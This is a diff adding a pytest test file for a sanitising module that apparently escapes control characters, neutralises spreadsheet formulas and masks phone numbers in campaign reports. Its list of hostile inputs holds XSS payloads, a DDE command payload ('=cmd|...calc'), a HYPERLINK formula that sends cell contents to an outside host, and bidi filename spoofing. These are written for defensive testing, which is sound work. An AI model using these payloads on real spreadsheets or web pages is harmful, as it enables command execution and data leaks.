@@ -1,0 +1,156 @@
+"""What strangers write, harmless wherever it is shown."""
+
+from __future__ import annotations
+
+import io
+import re
+import unicodedata
+
+import pandas as pd
+import pytest
+from rich.console import Console
+from rich.text import Text
+
+from prefect_mymsp.campaign import mask
+from prefect_mymsp.reports.sanitize import (
+    escape_control_characters,
+    escape_formula,
+    escape_formulas,
+    mask_frame,
+    masked,
+    masked_text,
+)
+
+#: What a person who means no good may put into a text, a name or a column.
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=\"alert('x')\">",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
+    "+46701740605+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\x00=1+1",
+    "\uff1d1+1",
+    "ok;=1+1",
+    'ok\t"=1+1"',
+    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
+    "\x9b31m",
+    "invoice\u202egnp.exe",
+    "\u2066hidden\u2069",
+    "zero\u200bwidth\ufeff",
+    "a\x08\x08\x08b\x7f",
+    "line\u2028separator",
+    "{{ 7 * 7 }} {% raw %} ${7*7}",
+    "Åsa & Öberg <asa@example.com>",
+    "emoji \U0001f44d\U0001f3fd \U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_is_visible_has_no_control_characters(text: str) -> None:
+    shown = escape_control_characters(text)
+    controls = [one for one in shown if unicodedata.category(one) in {"Cc", "Cf", "Zl", "Zp"} and one not in "\t\n"]
+    assert set(controls) <= {"\u200d"}  # which joins emoji
+    if text.isprintable():
+        assert shown == text
+    assert escape_control_characters(shown) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("\x1b[31mred", r"\x1b[31mred"),
+        ("a\u202eb", r"a\u202eb"),
+        ("\x7f\x9b", r"\x7f\x9b"),
+        ("\U000e0041", r"\U000e0041"),
+        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
+        ("half \ud800 a pair", r"half \ud800 a pair"),
+    ],
+)
+def test_control_characters_are_written_out(text: str, shown: str) -> None:
+    assert escape_control_characters(text) == shown
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_cell_begins_like_a_formula_whatever_separates_cells(text: str) -> None:
+    safe = escape_formula(escape_control_characters(text))
+    for cell in re.split(r"[;\t\r\n]", safe):
+        assert not re.match(r"[\s\"]*[=+\-@\uff0b\uff0d\uff1d\uff20]", cell)
+    assert safe.replace("'", "") == escape_control_characters(text).replace("'", "")
+
+
+@pytest.mark.parametrize(
+    "text", ["+46701740605", "46701740605", "+46 70 174 06 05", "-5", "-5.25", "12", "a=1", "x-y", ""]
+)
+def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
+    assert escape_formula(escape_control_characters(text)) == text
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_frame_is_made_as_harmless_as_its_texts(text: str) -> None:
+    frame = pd.DataFrame(
+        {"text": pd.Series([text, None, "ok"], dtype="string"), "count": pd.Series([1, 2, 3], dtype="Int64")}
+    )
+    safe = escape_formulas(frame)
+    assert safe["text"].fillna("none").tolist() == [escape_formula(escape_control_characters(text)), "none", "ok"]
+    assert safe.dtypes.equals(frame.dtypes)
+    assert frame["text"].iloc[0] == text
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_terminal_is_told_nothing_but_the_text(text: str) -> None:
+    stream = io.StringIO()
+    Console(file=stream, force_terminal=True, width=200).print(Text(escape_control_characters(text)))
+    written = re.sub(r"\x1b\[0?m", "", stream.getvalue())
+    assert "\x1b" not in written
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", written)
+
+
+@pytest.mark.parametrize("number", ["46701740605", "12015550100", "46709"])
+def test_numbers_are_masked_as_in_the_logs(number: str) -> None:
+    assert masked(number) == mask(number)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [("+46701740605", "+46•••••••05"), ("@Staff", "@Staff"), ("Telia", "Telia"), ("4670", "4670"), ("", "")],
+)
+def test_what_is_no_number_stays(text: str, shown: str) -> None:
+    assert masked(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("Ring 0701740612!", "Ring 07••••••12!"),
+        ("eller 070-174 06 12.", "eller 07•-••• •• 12."),
+        ("+46 (0)70 174 06 12", "+46 (•)•• ••• •• 12"),
+        ("46701740612;46701740613", "46•••••••12;46•••••••13"),
+        ("order 1234567 den 2030-01-31 kl 08.30-09.15", "order 1234567 den 2030-01-31 kl 08.30-09.15"),
+        ("Ok", "Ok"),
+    ],
+)
+def test_a_number_in_a_text_is_masked(text: str, shown: str) -> None:
+    assert masked_text(text) == shown
+
+
+def test_a_masked_frame_has_its_columns_and_dtypes() -> None:
+    frame = pd.DataFrame(
+        {
+            "recipient": pd.Series(["46701740605", None], dtype="string"),
+            "message_id": pd.Series(["12556789", None], dtype="string"),
+            "text": pd.Series(["Ring 0701740612", ""], dtype="string"),
+        }
+    )
+    safe = mask_frame(frame)
+    assert safe["recipient"].fillna("none").tolist() == ["46•••••••05", "none"]
+    assert safe["text"].tolist() == ["Ring 07••••••12", ""]
+    assert safe["message_id"].equals(frame["message_id"])
+    assert safe.dtypes.equals(frame.dtypes)
+    assert mask_frame(frame.head(0)).dtypes.equals(frame.dtypes)
